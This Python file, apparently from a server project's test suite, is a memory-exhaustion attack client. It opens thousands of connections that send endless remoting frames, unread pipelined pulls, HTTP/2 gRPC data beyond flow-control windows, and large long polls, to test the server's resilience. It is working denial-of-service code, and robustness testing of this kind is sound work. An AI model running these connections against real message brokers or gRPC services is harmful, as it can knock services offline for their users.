"""Clients that make a server hold as much memory as each of them may: a program, apart from the good client.

    python -m tests.attacks.memory_hogs PORT TOPIC [--connections 2000]

Four kinds, the same number of each: remoting frames that never end, pulls whose answers are not read, gRPC messages
that never end, and long polls with the largest bodies. A connection that the server closes is opened again after
some seconds. Prints a line when all have connected once, and runs until its input ends.
"""

import argparse
import asyncio
import contextlib
import itertools
import random
import resource
import socket
import sys
from collections.abc import Awaitable, Callable, Iterator

import orjson

from remoting.frame import encode_prefix
from tests.attacks.raw_client import END_HEADERS, HOST, PREFACE, Kind, frame, settings

_MIB = 1 << 20
_CHUNK = bytes(1 << 16)
# A frame of nearly the maximum size; its last byte is never sent.
_FRAME = encode_prefix(0, 64, 15 * _MIB)
_FRAME_BYTES = 15 * _MIB
# Pulls of one connection, and long polls of one connection with bodies of 60 KiB.
_PULLS = 64
_POLLS = 400
_POLL_BODY = bytes(60 * 1024)
# Streams of one connection, each with an unfinished message of 15 MiB.
_STREAMS = 16
# Seconds before a connection that was closed is opened again, and within which all connect first.
_PAUSE = 3.0

Send = Callable[[bytes], Awaitable[None]]


def pull(topic: str, number: int, suspend: int, body: bytes = b"") -> bytes:
    """Return a PULL_MESSAGE of the first messages of a queue, or a long poll at its end; suspend: in milliseconds."""
    fields = {
        "consumerGroup": "hogs",
        "topic": topic,
        "queueId": "0",
        "queueOffset": "1000000" if suspend else "0",
        "maxMsgNums": "32",
        # Suspend, and the subscription is in the request.
        "sysFlag": "6",
        "commitOffset": "0",
        "suspendTimeoutMillis": str(suspend),
        "subscription": "*",
        "expressionType": "TAG",
        "subVersion": "0",
        "bname": "broker-a",
    }
    header = {"code": 11, "flag": 0, "language": "JAVA", "opaque": number, "version": 481, "extFields": fields}
    raw = orjson.dumps(header)
    return encode_prefix(0, len(raw), len(body)) + raw + body


async def unfinished_frames(send: Send, _topic: str) -> None:
    await send(_FRAME)
    for _ in range(_FRAME_BYTES // len(_CHUNK)):
        await send(_CHUNK)


async def unread_answers(send: Send, topic: str) -> None:
    await send(b"".join(pull(topic, number, 0) for number in range(_PULLS)))


async def parked_polls(send: Send, topic: str) -> None:
    for number in range(_POLLS):
        await send(pull("parked", number, 60_000, _POLL_BODY))


async def unfinished_messages(send: Send, _topic: str) -> None:
    """Send DATA without regard to windows up to those that SETTINGS announce; the server then ends the stream."""
    await send(PREFACE + settings({}) + frame(Kind.SETTINGS, 1))
    # Literals without indexing (RFC 7541 section 6.2.2).
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/apache.rocketmq.v2.MessagingService/SendMessage"),
        (b":authority", b"gantry"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    block = b"".join(b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in fields)
    start = b"\0" + (15 * _MIB).to_bytes(4)
    for stream in range(1, 2 * _STREAMS, 2):
        await send(frame(Kind.HEADERS, END_HEADERS, stream, block) + frame(Kind.DATA, 0, stream, start))
    # The first window of each stream is 1 MiB, that of the connection 16 MiB.
    for _, stream in itertools.product(range(62), range(1, 2 * _STREAMS, 2)):
        await send(frame(Kind.DATA, 0, stream, bytes(1 << 14)))


KINDS = (unfinished_frames, unread_answers, unfinished_messages, parked_polls)


class Hogs:
    """The connections. connected: number that have connected at least once."""

    def __init__(self, port: int, topic: str) -> None:
        self._port = port
        self._topic = topic
        self._loop = asyncio.get_running_loop()
        self.connected = 0

    async def run(self, count: int) -> None:
        """Run `count` connections until cancelled."""
        kinds: Iterator[Callable[[Send, str], Awaitable[None]]] = itertools.cycle(KINDS)
        await asyncio.gather(*(self._keep(kind) for kind in itertools.islice(kinds, count)))

    async def _keep(self, kind: Callable[[Send, str], Awaitable[None]]) -> None:
        first = True
        await asyncio.sleep(random.uniform(0, _PAUSE))
        while True:
            with contextlib.suppress(OSError), socket.socket() as connection:
                connection.setblocking(False)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
                await self._loop.sock_connect(connection, (HOST, self._port))
                self.connected += first
                first = False

                async def send(data: bytes) -> None:
                    await self._loop.sock_sendall(connection, data)

                await kind(send, self._topic)
                while kind is unread_answers or await self._loop.sock_recv(connection, 4096):
                    await asyncio.sleep(_PAUSE)
            await asyncio.sleep(_PAUSE)


async def _main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("topic")
    parser.add_argument("--connections", type=int, default=2000)
    options = parser.parse_args()
    hogs = Hogs(options.port, options.topic)
    running = asyncio.create_task(hogs.run(options.connections))
    while hogs.connected < options.connections:
        await asyncio.sleep(0.1)
    sys.stdout.write("connected\n")
    sys.stdout.flush()
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    running.cancel()


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with contextlib.suppress(asyncio.CancelledError):
        asyncio.run(_main())
